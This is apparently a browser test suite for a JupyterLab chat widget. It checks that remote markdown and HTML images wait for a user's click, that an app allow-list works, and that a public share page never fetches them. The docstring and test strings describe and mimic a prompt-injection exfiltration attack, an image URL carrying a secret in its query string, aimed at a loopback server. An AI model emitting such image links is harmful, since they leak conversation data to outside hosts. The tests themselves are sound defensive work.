"""Remote images in chat markdown, in a real JupyterLab and on the share page, against a
loopback image host that counts its requests.

A prompt-injected `![](https://host/?d=<secret>)` would leak the conversation the moment it
is shown: remote images wait for the user's click (per host, for this chat on this page)
unless the app allows their host; `data:` and same-origin images show at once."""

from __future__ import annotations

import base64
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from labdriver import TIMEOUT_MS, Chat, JupyterLab, MakeNotebook, Notebook
from playwright.sync_api import Browser, Page, expect

pytestmark = pytest.mark.browser

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)


@dataclass
class ImageHost:
    """An HTTP server on loopback that answers every GET with a PNG and remembers it."""

    port: int = 0
    requests: list[str] = field(default_factory=list)  # "host path"

    def count(self, host: str) -> int:
        return sum(1 for r in self.requests if r.startswith(f"{host}:{self.port} "))


@pytest.fixture
def image_host() -> Iterator[ImageHost]:
    seen = ImageHost()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.requests.append(f"{self.headers.get('Host')} {self.path}")
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.send_header("Content-Length", str(len(PNG)))
            self.send_header("Cache-Control", "no-store")
            self.end_headers()
            self.wfile.write(PNG)

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    seen.port = server.server_address[1]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield seen
    server.shutdown()
    server.server_close()


DATA_PNG = "data:image/png;base64," + base64.b64encode(PNG).decode()


def markdown(port: int) -> str:
    """Images a prompt injection could produce: markdown, raw HTML, no scheme; two hosts."""
    return (
        f"leak ![secret](http://127.0.0.1:{port}/a.png?d=the-secret) "
        f'<img src="http://127.0.0.1:{port}/raw.png" alt="raw"> '
        f"![no scheme](//127.0.0.1:{port}/p.png) "
        f"![other host](http://localhost:{port}/c.png) "
        f"![inline]({DATA_PNG}) ![same origin](/static/favicons/favicon.ico)"
    )


APP = """
import chatwidget as cw

app = cw.ChatApp(title="Images", allowed_image_hosts=ALLOWED)

@app.on_message
async def reply(message: cw.Message):
    await cw.Message(content=IMAGES.replace("PATH", message.content)).send()

app.display()
"""


def open_chat(
    notebook: MakeNotebook, page: Page, image_host: ImageHost, allowed: list[str]
) -> tuple[Notebook, Chat]:
    body = markdown(image_host.port).replace("a.png", "PATH.png")
    nb = notebook([f"ALLOWED = {allowed!r}\nIMAGES = {body!r}", APP])
    nb.run_all()
    return nb, Chat.find(page)


def loaded(chat: Chat, src_part: str) -> bool:
    return bool(
        chat.root.evaluate(
            "(root, part) => [...root.querySelectorAll('.cw-message img')].some("
            "i => i.src.includes(part) && i.complete && i.naturalWidth > 0)",
            src_part,
        )
    )


def test_remote_images_wait_for_a_click_on_their_host(
    notebook: MakeNotebook, page: Page, image_host: ImageHost
) -> None:
    _, chat = open_chat(notebook, page, image_host, [])
    chat.send("first")
    answer = chat.root.locator(".cw-message.cw-assistant")
    expect(answer).to_have_count(1)
    chat.wait_idle()
    held = answer.locator("button.cw-remote-image")
    expect(held).to_have_count(4)
    expect(held.first).to_have_text(f"Load image from 127.0.0.1:{image_host.port}")
    expect(held.nth(3)).to_have_text(f"Load image from localhost:{image_host.port}")
    # data: and same-origin images show at once.
    expect(answer.locator("img")).to_have_count(2)
    page.wait_for_function(
        "() => [...document.querySelectorAll('.cw-message img')].every(i => i.complete && i.naturalWidth > 0)"
    )
    page.wait_for_timeout(1000)
    assert image_host.requests == []  # nothing was fetched from the remote host

    held.first.click()  # this host's images, for this chat
    expect(answer.locator("button.cw-remote-image")).to_have_count(1)
    for part in ("/first.png?d=the-secret", "/raw.png", "/p.png"):
        page.wait_for_function(
            "(part) => [...document.querySelectorAll('.cw-message img')].some("
            "i => i.src.includes(part) && i.complete && i.naturalWidth > 0)",
            arg=part,
        )
    assert image_host.count("127.0.0.1") == 3
    assert image_host.count("localhost") == 0  # another host still waits
    img = answer.locator("img[alt=secret]")
    assert img.get_attribute("referrerpolicy") == "no-referrer"

    # The host stays allowed for this chat: the next answer's images from it load at once.
    chat.send("second")
    expect(chat.root.locator(".cw-message.cw-assistant")).to_have_count(2)
    chat.wait_idle()
    page.wait_for_function(
        "() => [...document.querySelectorAll('.cw-message img')].some("
        "i => i.src.includes('/second.png') && i.complete && i.naturalWidth > 0)"
    )
    expect(
        chat.root.locator(".cw-message.cw-assistant").nth(1).locator("button.cw-remote-image")
    ).to_have_count(1)
    assert image_host.count("localhost") == 0


def test_the_app_can_allow_hosts(notebook: MakeNotebook, page: Page, image_host: ImageHost) -> None:
    _, chat = open_chat(notebook, page, image_host, [f"localhost:{image_host.port}"])
    chat.send("a")
    answer = chat.root.locator(".cw-message.cw-assistant")
    expect(answer.locator("button.cw-remote-image")).to_have_count(3)  # 127.0.0.1 waits
    page.wait_for_function(
        "() => [...document.querySelectorAll('.cw-message img')].some("
        "i => i.src.includes('/c.png') && i.complete && i.naturalWidth > 0)"
    )
    assert image_host.count("localhost") == 1 and image_host.count("127.0.0.1") == 0


def test_the_share_page_never_loads_remote_images(
    notebook: MakeNotebook, page: Page, lab: JupyterLab, browser: Browser, image_host: ImageHost
) -> None:
    nb, chat = open_chat(notebook, page, image_host, ["*"])  # even where the app allows them
    chat.send("shared")
    expect(chat.root.locator(".cw-message.cw-assistant")).to_have_count(1)
    chat.wait_idle()
    page.wait_for_timeout(1000)
    thread_id = nb.add_and_run("await app.save(); print(app.thread_id)").strip()
    status, shared = lab.api("PUT", f"/chatwidget/api/threads/{thread_id}/share")
    assert status == 200 and shared["isShared"] is True, shared
    image_host.requests.clear()  # the live chat allowed every host; the public page must not

    anonymous = browser.new_context()
    try:
        public = anonymous.new_page()
        public.goto(f"{lab.base}/chatwidget/share/{thread_id}/page", timeout=TIMEOUT_MS)
        expect(public.locator("#cw-shared")).to_have_attribute("data-rendered", "bundle", timeout=TIMEOUT_MS)
        answer = public.locator(".cw-message.cw-assistant")
        expect(answer).to_contain_text("leak")
        held = answer.locator("button.cw-remote-image")
        expect(held).to_have_count(4)
        expect(held.first).to_have_text(f"Open image from 127.0.0.1:{image_host.port}")
        expect(answer.locator("img")).to_have_count(2)  # data: and same-origin
        public.wait_for_timeout(1000)
        assert image_host.requests == []
    finally:
        anonymous.close()
